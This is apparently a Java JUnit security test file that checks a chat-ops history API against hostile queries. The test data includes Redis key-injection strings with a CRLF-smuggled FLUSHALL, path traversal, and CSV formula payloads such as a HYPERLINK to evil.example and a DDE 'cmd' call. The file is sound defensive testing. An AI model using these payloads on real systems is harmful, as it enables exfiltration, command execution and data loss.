package dev.quorum.attack;

import com.fasterxml.jackson.databind.JsonNode;
import dev.quorum.chat.console.ConsoleAdapter;
import dev.quorum.conversation.Identity;
import dev.quorum.conversation.IncomingMessage;
import dev.quorum.request.Request;
import dev.quorum.request.RequestType;
import dev.quorum.testing.QuorumHarness;
import dev.quorum.testing.TestRedis;
import dev.quorum.web.VotingFixture;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile history queries: limits and cursors out of range or malformed, pattern characters where Redis keys and
 * text matching are made from them, spreadsheet formulas in what the CSV exports, and reading with someone else's
 * name in the filter or no credential at all.
 */
class HistoryQueryAttackTest {
    private static final String LIMIT = "limit must be a number from 1 to 200";
    private static final String CURSOR = "cursor must be the 'next' value of a previous page";
    @TempDir
    Path data;
    private QuorumHarness q;

    @AfterEach
    void stop() {
        if (q != null) q.close();
    }

    @Test
    void hugeLimitsAndForgedCursorsAre400sOnTheListAndTheCsvAlike() throws Exception {
        demo();
        open("alice", "research one");
        for (String path : List.of("/api/requests?", "/api/requests.csv?")) {
            for (String limit : List.of("100000", "201", "0", "-1", "99999999999999999999", "1e2", "%20%31")) {
                assertThat(status(path + "limit=" + limit)).as(path + limit).isEqualTo(400);
                assertThat(q.get(path + "limit=" + limit).json().path("error").asText()).isEqualTo(LIMIT);
            }
            for (String cursor : List.of("abc", "-1", "1e9", "9999999999999999999", "1.2.3", "R5", "*", "1.", ".5", "1%0A2")) {
                assertThat(q.get(path + "cursor=" + cursor).json().path("error").asText()).as(path + cursor).isEqualTo(CURSOR);
            }
        }
        // A cursor is only a position: past the end it is an empty last page, far ahead it is every row
        JsonNode none = q.get("/api/requests?cursor=1").json();
        assertThat(none.path("requests")).isEmpty();
        assertThat(none.path("next").isNull()).isTrue();
        assertThat(q.get("/api/requests?cursor=999999999999999999").json().path("requests")).hasSize(1);
        assertThat(q.get("/api/requests?sort=updated&cursor=999999999999999999.1").json().path("requests")).hasSize(1);
    }

    @Test
    void patternCharactersInFiltersAreTakenLiterallyOrRefused() throws Exception {
        demo();
        Request literal = open("alice", "research a.*b [x] % ? \\d");
        open("alice", "research abb xd");
        open("bob", "research anything");
        // q is a literal substring: no regex, no glob, no LIKE
        assertThat(ids("q=" + enc(".*"))).containsExactly(literal.id());
        assertThat(ids("q=" + enc("[x]"))).containsExactly(literal.id());
        assertThat(ids("q=" + enc("%"))).containsExactly(literal.id());
        assertThat(ids("q=" + enc("\\d"))).containsExactly(literal.id());
        assertThat(ids("q=" + enc("a?b"))).isEmpty();
        assertThat(ids("q=" + enc("x*"))).isEmpty();
        assertThat(status("/api/requests?q=" + "x".repeat(201))).isEqualTo(400);
        assertThat(q.get("/api/requests?q=" + "x".repeat(201)).json().path("error").asText()).isEqualTo("q must be at most 200 characters");
        long keys = q.quorum().redis().sync().dbsize();
        // Person and name filters become Redis key names: anything but an identity or a plain name is refused,
        // so no glob (a KEYS or SCAN pattern) and no other key ({q}:req:R1) can be named through them
        for (String user : List.of("*", "al*", "console:*", "console:al?ce", "console:[a-z]*", "console:alice\r\nFLUSHALL", "{q}:req:R1")) {
            assertThat(status("/api/requests?user=" + enc(user))).as(user).isEqualTo(400);
            assertThat(status("/api/requests?approver=" + enc(user))).as(user).isEqualTo(400);
        }
        for (String name : List.of("*", "acme/*", "{q}:req:R1", "../../etc", "a b", "acme/web\n", "-rf")) {
            assertThat(status("/api/requests?repo=" + enc(name))).as(name).isEqualTo(400);
            assertThat(status("/api/requests.csv?environment=" + enc(name))).as(name).isEqualTo(400);
        }
        assertThat(ids("user=alice")).hasSize(2);
        assertThat(q.quorum().redis().sync().dbsize()).as("no key made for a hostile filter").isEqualTo(keys);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAreDefusedAndQuotesEscaped() throws Exception {
        demo();
        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", "say \"hi\", then\r\nnew line");
        for (String text : hostile) {
            q.quorum().requests().open(RequestType.RESEARCH, IncomingMessage.human(Identity.console("alice"), ConsoleAdapter.ROOM, text),
                    text, null);
        }
        HttpResponse<String> res = q.http().send(HttpRequest.newBuilder(URI.create(q.url("/api/requests.csv?sort=created&order=asc"))).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(res.statusCode()).isEqualTo(200);
        assertThat(res.headers().firstValue("content-disposition")).hasValue("attachment; filename=\"quorum-history.csv\"");
        String body = res.body();
        assertThat(body).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"", "\"'+1+cmd|' /C calc'!A0\"", "\"'-2+3\"",
                "\"'@SUM(A1:A9)\"", "\"'\t=1+1\"", "\"'\r=1+1\"", "\"say \"\"hi\"\", then\r\nnew line\"");
        // No cell anywhere starts with a formula character unquoted and unprefixed
        for (String line : body.split("\r\n")) {
            for (String start : List.of(",=", ",+", ",-", ",@", "\"=", "\"+", "\"@")) assertThat(line).doesNotContain(start);
        }
    }

    @Test
    void withTokensEveryConsoleUserReadsTheWholeHistoryAndNobodyElseReadsAny() throws Exception {
        TestRedis.flush();
        q = QuorumHarness.start(data, QuorumHarness.tokenConfigText(), Map.of(), Clock.systemUTC());
        Request queued = q.quorum().requests().open(RequestType.MERGE,
                IncomingMessage.human(Identity.console("alice"), ConsoleAdapter.ROOM, "merge feature/greeting"), "merge feature/greeting", null);
        Request merge = VotingFixture.openForVotes(q.quorum(), queued, "feature/greeting");
        Map<String, String> bob = Map.of("Authorization", "Bearer " + QuorumHarness.TOKENS.get("bob"));
        Map<String, String> carol = Map.of("Authorization", "Bearer " + QuorumHarness.TOKENS.get("carol"));
        assertThat(q.post("/api/console/messages", bob, "{\"text\":\"approve " + merge.id() + "\"}").status()).isEqualTo(202);
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (q.get("/api/requests?approver=bob", carol).json().path("requests").isEmpty()) {
            if (System.nanoTime() > deadline) throw new AssertionError("bob's approval never reached the approver index");
            Thread.sleep(50);
        }
        // SPEC §7: /api/* is for console users and managers read history with their token, so any console user's
        // filter may name anyone: carol reads what alice asked for and bob approved, as JSON and as CSV
        assertThat(q.get("/api/requests?approver=bob&user=alice", carol).json().path("requests").get(0).path("id").asText()).isEqualTo(merge.id());
        assertThat(q.get("/api/requests?approver=carol", carol).json().path("requests")).isEmpty();
        assertThat(csv("approver=bob", carol).body()).contains("\"" + merge.id() + "\"");
        // No credential, the demo header, a wrong token: nothing, on either route
        for (Map<String, String> nobody : List.of(Map.<String, String>of(), Map.of("X-Quorum-User", "bob"),
                Map.of("Authorization", "Bearer not-a-token-000000000", "X-Quorum-User", "carol"))) {
            assertThat(q.get("/api/requests?user=alice", nobody).status()).as(nobody.toString()).isEqualTo(401);
            HttpResponse<String> res = csv("user=alice", nobody);
            assertThat(res.statusCode()).as(nobody.toString()).isEqualTo(401);
            assertThat(res.body()).doesNotContain(merge.id());
        }
        // Another site's page cannot pull the export with the reader's token in a cookie-less fetch either
        HttpResponse<String> cross = q.http().send(HttpRequest.newBuilder(URI.create(q.url("/api/requests.csv"))).header("Origin", "https://evil.example")
                .header("Authorization", carol.get("Authorization")).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(cross.statusCode()).isEqualTo(403);
        assertThat(cross.body()).doesNotContain(merge.id());
    }

    private void demo() throws Exception {
        TestRedis.flush();
        q = QuorumHarness.start(data);
    }

    private Request open(String user, String text) {
        return q.quorum().requests().open(RequestType.RESEARCH, IncomingMessage.human(Identity.console(user), ConsoleAdapter.ROOM, text), text, null);
    }

    private List<String> ids(String filter) throws Exception {
        QuorumHarness.Response res = q.get("/api/requests?" + filter);
        assertThat(res.status()).as(filter).isEqualTo(200);
        List<String> out = new ArrayList<>();
        res.json().path("requests").forEach(r -> out.add(r.path("id").asText()));
        return out;
    }

    private int status(String path) throws Exception {
        return q.get(path).status();
    }

    private HttpResponse<String> csv(String filter, Map<String, String> headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(q.url("/api/requests.csv?" + filter)));
        headers.forEach(b::header);
        return q.http().send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
